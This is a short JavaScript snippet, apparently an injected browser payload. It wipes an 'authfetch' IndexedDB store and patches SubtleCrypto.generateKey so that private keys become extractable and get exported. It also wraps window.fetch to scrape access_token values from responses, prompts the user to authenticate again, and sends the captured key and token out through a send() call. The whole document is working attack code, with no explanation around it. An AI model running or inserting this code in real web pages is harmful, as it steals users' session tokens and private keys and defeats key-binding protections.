indexedDB.deleteDatabase("authfetch");
let key = null;
const { generateKey } = SubtleCrypto.prototype;
SubtleCrypto.prototype.generateKey = async function (algorithm, extractable, uses) {
  const made = await generateKey.call(this, algorithm, true, uses);
  key = await this.exportKey("jwk", made.privateKey);
  return made;
};
let token = null;
const original = window.fetch;
window.fetch = async (input, init) => {
  const response = await original(input, init);
  token = /"access_token":"([^"]+)"/.exec(await response.clone().text())?.[1] ?? token;
  return response;
};
await user("again");
send({ key, token });
